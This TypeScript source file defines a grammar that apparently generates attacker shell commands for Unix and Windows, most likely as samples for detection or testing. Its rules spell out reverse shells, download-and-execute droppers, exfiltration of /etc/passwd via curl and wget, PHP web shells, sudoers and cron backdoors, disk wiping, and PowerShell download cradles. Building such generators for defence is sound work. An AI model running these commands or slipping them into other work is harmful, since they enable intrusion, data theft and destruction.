/** Shell commands that attackers run, for every family that ends in one. */

import { grammar, lines, type Rules, words } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import { COMMANDS } from "./commands.ts";

export const SHELL: Rules = {
  ...LEXICON,
  ...COMMANDS,
  unix: lines`
    «gtfouse»
    «gtfouse»
    «gtfouse»
    «gtfouse»
    «gtfouse»
    «unixsyntax»
    «unixsyntax»
    «unixsyntax»
    «look»
    «look»
    «read» «unixfile»
    «read» «unixfile»
    «read»« |  |\${IFS}|$IFS|$IFS$9|\t|<| -n | ../../»«unixfile»
    «net»
    «net»
    «drop»
    «drop»
    «reverse»
    «wait»
    «wait»
    «echo»
    «tool» «toolarg»
    «tool» «toolarg»
    «tool» -«letter» «toolarg»
    «bin»«tool» «toolarg»
    «bin»«tool»
    «persist»`,
  look: words`
    id id id whoami whoami whoami ls ls dir pwd uname env set w who users hostname ifconfig ps printenv dmesg mount df last
    netstat date groups sh bash uptime logname history finger lsof lscpu jobs export arch crontab`.concat(lines`
    ls -la
    ls -«l|al|lha|R|1» /«|etc|tmp|home|var/www|root|»
    ls /
    ls -l /etc/
    uname -a
    uname -«a|r|m|s»
    cat /etc/passwd
    ps «aux|-ef|-a|-A|auxww»
    netstat -«an|antp|tulpn|rn|ano»
    ifconfig -a
    ifconfig eth«digit»
    ip «a|addr|route»
    w -h
    crontab -l
    sudo -l
    id «root|www-data|«rnd»»
    find / -«name|perm|type|user» «*.«ext»|-4000|f|root|«rnd»»«| 2>/dev/null|»
    which «tool»
    env | «sort|grep «rnd»»
    getent «passwd|hosts»
    cat /proc/version
    system«ctl status|info|ctl list-units»`),
  read: words`cat cat cat cat head tail more less nl tac od xxd strings sort uniq rev cut vi vim ed grep awk sed base64 hexdump fold fmt paste
    pr file wc diff cp mv dd tee type more readlink shuf split sum md5sum iconv look view zcat bzcat xargs`,
  tool: words`
    cat ls nc ncat netcat wget curl bash sh zsh ksh csh dash python python2 python3 perl ruby php node lua gcc tar zip unzip gzip gunzip chmod chown
    kill killall pkill rm cp mv mkdir touch ln echo printf find grep egrep fgrep sed awk gawk xargs env nohup sudo su passwd useradd adduser
    usermod userdel groupadd crontab at service systemctl iptables mount umount dd ping ping6 traceroute nslookup dig host telnet ssh scp sftp rsync ftp
    tftp lynx links fetch aria2c socat openssl gdb strace docker kubectl apt apt-get yum dnf dpkg rpm npm pip gem git svn mysql
    psql sqlite3 mail sendmail nmap masscan tcpdump nice timeout time tee watch script screen tmux expect busybox
    ss ip arp route ifconfig hostname uname id whoami finger lsof fuser ps top free df du vmstat sysctl lsmod insmod modprobe reboot shutdown
    halt poweroff init exec eval source export alias unset trap ulimit test column comm cpio csplit cmp
    ed emacs nano vi vim vipw visudo xterm yes capsh chroot chattr dos2unix aspell ansible-playbook ab bzip2 xz 7z 7za ar as awk
    base32 base64 bpftrace bridge bundle busctl c89 c99 cancel certbot check_by_ssh cobc composer cowsay cpan cpulimit crash dmidecode dmsetup
    easy_install eb efax flock fping genie ghc ginsh gimp grc gtester hping3 iftop ionice irb jjs joe journalctl jq julia ksshell ld.so ldconfig
    logsave ltrace mawk msgattrib mtr nawk nroff octave openvpn pdb pdflatex pexec pkexec pg puppet rake red restic rlwrap rpmquery run-parts rvim setarch
    slsh sqlmap start-stop-daemon stdbuf tasksel tclsh tex tmate tshark unexpand unlink unshare varnishncsa w3m wall whiptail wish xdotool xelatex xmodmap yelp zypper`,
  toolarg: [
    "«unixfile»",
    "«rnd»",
    "-«letter»",
    "«host»",
    "«url»",
    "/tmp/«rnd»",
    "-c '«rnd»'",
    "--«rnd»=«rnd»",
    "-«letter» «port»",
    "/«|tmp|etc|var|»",
    "*",
    ".",
    "-«letter»«letter» «unixfile»",
    "«ip» «port»",
  ],
  bin: [
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "./",
    "/bin/busybox ",
    "/tmp/",
    "../../bin/",
    "sudo ",
  ],
  net: lines`
    ping -c «secs» «127.0.0.1|localhost|«host»|«ip»»
    ping -«c|i|n|w|W» «secs» «127.0.0.1|«host»»
    ping «host»
    nslookup «host»
    nslookup -q=«cname|txt|a» «host»
    nslookup «rndmix».«host»
    dig «host»
    dig @«ip» «host»
    host «host»
    curl «url»
    curl -«s|k|O|o /tmp/«rnd»|X POST -d @/etc/passwd|sS|F file=@/etc/passwd|I|L» «url»
    curl «url» -d "$(«look»)"
    curl http://«host»/\`«look»\`
    wget «url»
    wget -«q|O-|O /tmp/«rnd»|qO-|c|P /tmp|r» «url»
    wget --«post-file=/etc/passwd|post-data "$(«look»)"|no-check-certificate|tries=1» «url»
    nc «host» «port»
    nc -«e /bin/sh|lvp|lnvp|nv|l -p|vv|z -v|u» «host» «port»
    nc -l«v|nvp|p» «port»
    telnet «host» «port»
    ftp «host»
    traceroute «host»
    tftp -g -r «rnd».sh «ip»
    ssh «rnd»@«host»
    scp «unixfile» «rnd»@«host»:/tmp
    lynx -«source|dump» «url»
    nmap «-sS|-sV|-p- |»«ip»
    host -t txt «host»
    ping6 -c «secs» ::1`,
  drop: lines`
    wget «url» -O /tmp/«v=rnd»;chmod «777|+x|755» /tmp/«$v»;/tmp/«$v»
    wget http://«host»/«v=rnd».sh;chmod 777 «$v».sh;sh «$v».sh
    cd /tmp;wget http://«host»/«v=rnd».sh;chmod 777 «$v».sh;./«$v».sh «rnd»
    cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://«host»/«v=rnd».sh; curl -O http://«host»/«$v».sh; chmod 777 «$v».sh; sh «$v».sh
    cd /tmp; rm -rf *; wget http://«host»/«v=rnd».«sh|mips|arm7|x86|mpsl|arm»; chmod 777 *; ./«$v» «rnd»
    rm -rf «/tmp/*|/*|*|/var/log|/»;wget http://«host»/«rnd»«.m|.a|.sh|»«| -O /tmp/«rnd»»;sh /tmp/«rnd»
    curl «-s|-fsSL|-k|-sL» «url»«| -o /tmp/«rnd»»|«sh|bash|bash -s|python|perl»
    wget -«qO-|q -O -|O -» «url»|«sh|bash»
    (curl -s «url»||wget -q -O- «url»)|bash
    bash <(curl -s «url»)
    bash -c "$(curl -fsSL «url»)"
    tftp «ip» -c get «v=rnd».sh; chmod 777 «$v».sh; sh «$v».sh
    busybox wget http://«host»/«rnd» -O- | sh
    ftpget -v -u anonymous -p anonymous -P 21 «ip» «rnd».sh «rnd».sh
    echo «base64»|base64 «-d|--decode|-D»|«sh|bash|bash -i»
    base64 -d<<<«base64»|sh
    bash -c {echo,«base64»}|{base64,-d}|{bash,-i}
    python -c "import urllib;exec(urllib.urlopen('«url»').read())"
    perl -e 'use LWP::Simple;getstore("«url»","/tmp/«rnd»")'
    php -r "file_put_contents('«rnd».php',file_get_contents('«url»'));"
    printf '\x«hex2»\x«hex2»\x«hex2»' >> /tmp/«rnd»
    nohup /tmp/«rnd» >/dev/null 2>&1 &`,
  reverse: lines`
    bash -i >& /dev/tcp/«host»/«port» 0>&1
    bash -c 'bash -i >& /dev/tcp/«ip»/«port» 0>&1'
    sh -i >& /dev/udp/«ip»/«port» 0>&1
    0<&196;exec 196<>/dev/tcp/«ip»/«port»; sh <&196 >&196 2>&196
    exec 5<>/dev/tcp/«ip»/«port»;cat <&5|while read line;do $line 2>&5 >&5;done
    nc «ip» «port» -e /bin/«sh|bash»
    nc -c bash «ip» «port»
    rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «ip» «port» >/tmp/f
    python«|2|3» -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("«ip»",«port»));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
    python3 -c 'import pty;pty.spawn("/bin/bash")'
    python -c "__import__('os').system('«look»')"
    perl -e 'use Socket;$i="«ip»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'
    perl -e 'system("«look»")'
    php -r '$s=fsockopen("«ip»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");'
    ruby -rsocket -e 'exit if fork;c=TCPSocket.new("«ip»","«port»");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
    socat TCP:«ip»:«port» EXEC:/bin/sh
    telnet «ip» «port» | /bin/sh | telnet «ip» «port»
    awk 'BEGIN {s = "/inet/tcp/0/«ip»/«port»"; while(1) { do { printf "shell>" |& s; s |& getline c; } while(c != "exit") }}'
    mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc «ip» «port» 1>/tmp/backpipe
    openssl s_client -quiet -connect «ip»:«port»
    lua -e "require('socket');require('os');t=socket.tcp();t:connect('«ip»','«port»');os.execute('/bin/sh -i')"
    /dev/tcp/«ip»/«port»
    xterm -display «ip»:1`,
  wait: [
    "sleep «secs»",
    "sleep «secs»",
    "sleep «secs».0",
    "timeout «secs»",
    "ping -c «secs» 127.0.0.1",
    "ping -i «secs» -c 2 127.0.0.1",
    "usleep «big»",
    "read -t «secs»",
    "sleep $(«look»)",
    "/bin/sleep «secs»",
    "perl -e 'sleep(«secs»)'",
    "time sleep «secs»",
  ],
  echo: lines`
    echo «Rnd»
    echo «rnd»«rnd»
    echo $((«int»«+|*|-»«int»))
    echo $((«int»+«int»))$(echo «Rnd»)«Rnd»
    echo -«n|e|en» "«rnd»"
    echo «rnd» > /«tmp|var/www/html|var/tmp|dev/shm»/«rnd».«txt|php»
    echo "<?php «system|eval|passthru»($_«GET|POST|REQUEST»[«cmd|c|0|x»]);?>" > «rnd».php
    echo '«base64»' | base64 -d > «rnd».«php|jsp|sh»
    expr «int» «+|-|'*'|/|*» «int»
    printf '%s' «rndmix»
    set /a «int»«+|*|-»«int»
    print(«q»«rnd»«q»)
    echo «rndmix»|«md5sum|rev|sha1sum|tr a-z A-Z|base64|xxd -p»
    touch /tmp/«rnd»
    echo «v=Rnd»$((«int»+«int»))$(echo «$v»)«$v»
    echo «v=Rnd»$((«int»+«int»))\`echo «$v»\`«$v» //
    echo «v=Rnd»$((«int»%2B«int»))$(echo «$v»)«$v»
    str=$(echo «v=Rnd»);str1=\${#str};if [ «int» -ne \${str1} ];then sleep 0;else sleep «secs»;fi
    [ «int» -eq $(expr length "$(echo «Rnd»)") ] || sleep «secs»
    for /f "tokens=*" %i in ('cmd /c "set /a («int»+«int»)"') do @set /p = «v=Rnd»%i«$v» < nul
    cmd /c "set /a «int»+«int»"
    python -c "print «int»+«int»"
    powershell.exe -InputFormat none write-host «Rnd»
    export «rnd»=«int»;echo $«rnd»
    php -r "print(«int»*«int»);"
    perl -e "print «int»*«int»"
    awk 'BEGIN{print «int»*«int»}'
    .«shell|system|read|import|load|output|open|dump|excel|once|log» «rnd»«| «tool»»
    {«tool»,«unixfile»}
    {«tool»,-«letter»,«rnd»}
    ~«+|-|root|nobody»/«rnd»
    cd ~«+|-|root»
    [[ -f «unixfile» ]] && «look»
    test -e «unixfile»
    while true; do «look»; done
    until «look»; do sleep «small»; done
    if «look»; then «tool»; fi
    case «rnd» in «rnd») «look»;; esac
    case x in x) «tool»;; esac
    function «rnd»(){ «look»; }
    trap '«look»' EXIT
    source «unixfile»
    . /tmp/«rnd»
    coproc «tool»
    shopt -s «rnd»
    set -x; «look»
    «tool»«_»<<< «rnd»
    «tool» $(«look»)
    «tool» \`«look»\`
    tee >(«tool»)
    >/tmp/«rnd»
    str=$(echo «Rnd»);str1=\${#str}`,
  persist: lines`
    chmod «777|+x|u+s|4755» «unixfile»
    chown root /tmp/«rnd»
    echo "«rnd» ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers
    useradd «-p|-m|-o -u 0» «rnd»
    crontab /tmp/«rnd»
    (crontab -l; echo "* * * * * curl «url»|sh")|crontab -
    kill -9 «-1|$$|«int»»
    killall -9 «rnd»
    rm -«rf|f|r» «/|/*|*|/tmp/«rnd»|--no-preserve-root /|«unixfile»»
    mail «email» < «unixfile»
    mv «webfile» «rnd»
    cp «unixfile» /var/www/html/«rnd».txt
    tar c«zf|vf» - «unixfile»
    dd if=/dev/«zero|random» of=/dev/sda
    reboot
    shutdown -h now
    :(){ :|:& };:
    xmrig -o «host»:«port» -u «rndmix»
    iptables -F
    service «rnd» stop
    export PATH=/tmp:$PATH`,

  /** What is mostly known to be there, half of the time; the rest is the width of the vocabulary. */
  win: [
    ["«winplain»", 10],
    ["«loluse»", 7],
    ["«batch»", 4],
    ["«psone»", 2],
  ],
  winplain: lines`
    «winlook»
    «winlook»
    type «drive»«winfile»
    type %SYSTEMROOT%\win.ini
    dir ««drive»|c:\|C:\Users|%temp%|.|/s /b»
    dir
    net «user|localgroup administrators|view|start|share|accounts|group "Domain Admins" /domain|use * \\«host»\«rnd»|user «rnd» «rnd» /add|config workstation|session»
    ipconfig«| /all|»
    systeminfo
    ver
    whoami /«all|priv|groups»
    ping -n «secs» «127.0.0.1|localhost|«host»»
    nslookup «host»
    tasklist«| /v|/svc»
    netsh «firewall set opmode disable|advfirewall show allprofiles|interface show»
    reg «query|add|save» HK«LM|CU»\«SOFTWARE|SAM|SYSTEM|Software\Microsoft\Windows\CurrentVersion\Run»
    wmic «process list|os get|useraccount|process call create "«rnd».exe"|logicaldisk get caption|product get name»
    cmd«.exe|» /«c|k|C» «winlook»
    cmd«.exe|» /c "«dir|type c:\boot.ini|echo «rnd»|ping «host»»"
    %COMSPEC% /c «winlook»
    %SystemRoot%\system32\cmd.exe /c «winlook»
    powershell«.exe|» «psarg»
    powershell«.exe|» «psarg»
    powershell -«enc|e|EncodedCommand|ec» «base64»«base64»
    certutil«.exe|» -«urlcache -split -f|decode|encode|verifyctl -f» «url» «rnd».exe
    bitsadmin /transfer «rnd» «url» c:\windows\temp\«rnd».exe
    mshta «url»
    mshta vbscript:Close(Execute("GetObject(""script:«url»"")"))
    rundll32«.exe|» «url.dll,FileProtocolHandler|javascript:"\..\mshtml,RunHTMLApplication"|«rnd».dll,«rnd»»
    regsvr32 /s /n /u /i:«url» scrobj.dll
    cscript //nologo «rnd».vbs
    wscript «rnd».js
    copy «drive»«winfile» c:\inetpub\wwwroot\«rnd».txt
    del «/f /q |»«drive»«rnd»
    echo «rnd» > «drive»«rnd».txt
    attrib «+h|-r» «rnd»
    schtasks /create /tn «rnd» /tr «rnd».exe /sc onlogon
    sc «query|create «rnd» binpath= «rnd».exe|stop «rnd»»
    icacls «drive»«rnd»
    forfiles /p c:\windows /m notepad.exe /c calc.exe
    for /«f|l|r» %«letter» in («dir|1,1,«int»|*.*») do «echo|call|start» %«letter»
    timeout /t «secs»
    waitfor /t «secs» «rnd»
    start «calc.exe|notepad|cmd|«rnd».bat»
    «calc|calc.exe|notepad.exe|mspaint»
    taskkill /f /im «rnd».exe
    tftp -i «ip» get «rnd».exe
    c:\windows\system32\«cmd.exe|calc.exe|ipconfig.exe|ping.exe»
    ^n^e^t ^u^s^e^r
    findstr /si password *.«xml|ini|txt»`,
  winlook: [
    "whoami",
    "dir",
    "ipconfig",
    "ver",
    "set",
    "hostname",
    "systeminfo",
    "net user",
    "echo %«USERNAME|PATH|OS|COMPUTERNAME|CD»%",
    "type boot.ini",
    "tasklist",
    "netstat -ano",
    "dir c:\\",
    "tree",
    "vol",
    "arp -a",
    "route print",
    "date /t",
    "query user",
  ],
  psverb: words`Get Set New Remove Invoke Start Stop Add Clear Copy Move Rename Test Export Import ConvertTo ConvertFrom Enable Disable Out Write Read Register Resume Suspend Restart Select Send Show Sort Update Wait Enter Exit Find Format Install Join Measure Mount Receive Save Search Split Trace Unblock Use Where`,
  psnoun: words`Process Service Item ChildItem Content ItemProperty Location Variable Alias Acl EventLog WmiObject CimInstance Command Computer Connection Counter Credential Date ExecutionPolicy Expression Help History Host HotFix Job Member Module Object Package PSDrive PSSession Random RestMethod Runspace ScheduledTask LocalUser LocalGroup NetAdapter NetIPAddress
    SmbShare String Table Transcript TypeData Unique UICulture WebRequest WinEvent WmiMethod Xml Csv Json Html SecureString File Null Printer GridView Clipboard Output Warning Error Debug Verbose Eventlog Breakpoint MailMessage DnsClient BitsTransfer ADUser ADComputer ADGroup Mimikatz Shellcode`,
  psarg: lines`
    -c «whoami|Get-Process|"«rnd»"|Get-ChildItem|dir»
    -nop -w hidden -c "IEX((New-Object Net.WebClient).DownloadString('«url»'))"
    -NoP -NonI -W Hidden -Exec Bypass -Enc «base64»
    IEX(New-Object Net.WebClient).DownloadString('«url»')
    (New-Object System.Net.WebClient).DownloadFile('«url»','«rnd».exe')
    Invoke-WebRequest -Uri «url» -OutFile «rnd».exe
    iwr «url» -UseBasicParsing|iex
    Invoke-Expression «rnd»
    Get-«Content|Process|Service|ChildItem|WmiObject|Host|Item|Command|ExecutionPolicy|LocalUser» «rnd»
    «psverb»-«psnoun» «rnd»
    «psverb»-«psnoun»
    «psverb»-«psnoun» | «psverb»-«psnoun»
    «psverb»-«psnoun» -«Path|Name|Force|Recurse|ComputerName|ScriptBlock» «rnd»
    Start-«Process|Sleep» ««rnd»|«secs»»
    -ExecutionPolicy Bypass -File \\«host»\«rnd».ps1
    [System.«Net.Dns|IO.File|Convert|Text.Encoding»]::«GetHostByName|ReadAllText|FromBase64String»('«rnd»')
    New-«Object|Item|Service|LocalUser» «rnd»`,
};
const RULES = grammar(SHELL);

/** A Windows command. */
export const windowsCommand = (rng: Parameters<typeof RULES>[0]) => RULES(rng, "win");
